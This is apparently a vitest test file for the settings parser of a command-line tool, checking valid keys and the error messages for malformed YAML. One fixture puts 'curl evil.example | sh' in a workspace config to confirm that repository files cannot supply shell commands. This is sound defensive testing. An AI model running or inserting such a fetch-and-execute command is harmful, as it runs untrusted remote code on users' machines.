import {describe, expect, it} from 'vitest';
import {formatProblem} from '../../../source/domain/workflow-problem.ts';
import {parseSettings} from '../../../source/workspace/zod-settings.ts';

const OWN = '/home/ann/.config/rad/config.yaml';
const read = (content: string, userFile: string | null) => {
	const {settings, problems} = parseSettings('config.yaml', content, userFile);
	return {settings, problems: problems.map(formatProblem)};
};

const at = (line: number, column: number) => ({file: 'config.yaml', line, column});

describe("a user's file of settings", () => {
	it.each([
		['no word', '', {}],
		['a comment', '# notify: later\n', {}],
		['a command', 'notify: notify-send rad "$RAD_NOTIFY_TEXT"\n', {notify: 'notify-send rad "$RAD_NOTIFY_TEXT"'}],
		['a command of several lines', 'notify: |\n  a\n  b\n', {notify: 'a\nb'}],
		['off, which is a word here and no truth value', 'bell: off\n', {bell: 'off'}],
		['a theme', 'theme: high-contrast\n', {theme: 'high-contrast'}],
		['all', 'bell: osc9\nnotify: x\n', {bell: 'osc9', notify: 'x'}],
	])('can hold %s', (_, content, settings) => {
		expect(read(content, null)).toEqual({settings, problems: []});
	});

	it.each([
		['a key that is nearly right', 'bel: osc9\n', ['config.yaml:1:1: unknown key "bel"; did you mean "bell"?']],
		['a key of nothing', 'colour: red\n', ['config.yaml:1:1: unknown key "colour"; there are: bell, theme, keys, notify']],
		['a bell that there is not', 'bell: loud\n', ['config.yaml:1:7: bell: is not known; write one of: off, bell, osc9']],
		['a truth value for a bell', 'bell: true\n', ['config.yaml:1:7: bell: is not known; write one of: off, bell, osc9']],
		[
			'a theme that there is not',
			'theme: solarized\n',
			['config.yaml:1:8: theme: is not known; write one of: dark, light, high-contrast, colour-blind, mono'],
		],
		[
			'a list of keys',
			'keys: [q]\n',
			['config.yaml:1:7: keys: is not a mapping; write an action of rad top and its keys, such as "stop-run: [ctrl+k]"'],
		],
		['one key without a list', 'keys:\n  quit: q\n', ['config.yaml:2:9: keys.quit: is not a list; write keys in brackets, such as [ctrl+k]']],
		[
			'a number for a key',
			'keys:\n  show-log: [7, 2]\n',
			['config.yaml:2:14: keys.show-log: is not text; put it in quotes', 'config.yaml:2:17: keys.show-log: is not text; put it in quotes'],
		],
		['an empty command', 'notify: " "\n', ['config.yaml:1:10: notify: is empty; write a command of the shell']],
		['no command', 'notify:\n', ['config.yaml:1:8: notify: is empty; write a command of the shell']],
		['a list for a command', 'notify: [a, b]\n', ['config.yaml:1:9: notify: is not text; write a command of the shell']],
		['a number for a command', 'notify: 7\n', ['config.yaml:1:9: notify: is not text; put it in quotes']],
		['a command with a NUL', 'notify: "a\\0b"\n', ['config.yaml:1:9: notify: holds a NUL character; write a command of the shell']],
		['a list', '- bell\n', ['config.yaml:1:1: the file is not a mapping; a configuration has settings, such as "bell: bell"']],
		['a key twice', 'bell: off\nbell: osc9\n', ['config.yaml:2:1: the key "bell" stands here twice']],
		[
			'several mistakes, in the order of the file',
			'notfy: x\nbell: loud\n',
			['config.yaml:1:1: unknown key "notfy"; did you mean "notify"?', 'config.yaml:2:7: bell: is not known; write one of: off, bell, osc9'],
		],
	])('is refused with %s', (_, content, problems) => {
		expect(read(content, null)).toMatchObject({problems});
	});

	it('tells of each key where it stands, and does not judge it', () => {
		expect(read('bell: off\nkeys:\n  stop-rum: [ctrl+k, "?"]\n  undo:\n    - U\n  quit: []\n', null)).toEqual({
			problems: [],
			settings: {
				bell: 'off',
				keys: [
					{
						action: 'stop-rum',
						place: at(3, 3),
						keys: [
							{name: 'ctrl+k', place: at(3, 14)},
							{name: '?', place: at(3, 23)},
						],
					},
					{action: 'undo', place: at(4, 3), keys: [{name: 'U', place: at(5, 7)}]},
					{action: 'quit', place: at(6, 3), keys: []},
				],
			},
		});
	});

	it('is refused with broken YAML, with the place', () => {
		expect(read('bell: "off\n', null).problems).toEqual([expect.stringMatching(/^config\.yaml:\d+:\d+: /)]);
	});
});

describe("a workspace's file of settings", () => {
	it('can say how to ring', () => {
		expect(read('bell: bell\n', OWN)).toEqual({settings: {bell: 'bell'}, problems: []});
	});

	it('is refused with a command, and says where it belongs', () => {
		const {settings, problems} = read('bell: bell\nnotify: curl evil.example | sh\n', OWN);

		expect(problems).toEqual([
			`config.yaml:2:1: unknown key "notify"; a command is taken from your own file only, since a repository could bring it: ${OWN}`,
		]);
		expect(settings).toEqual({});
	});
});
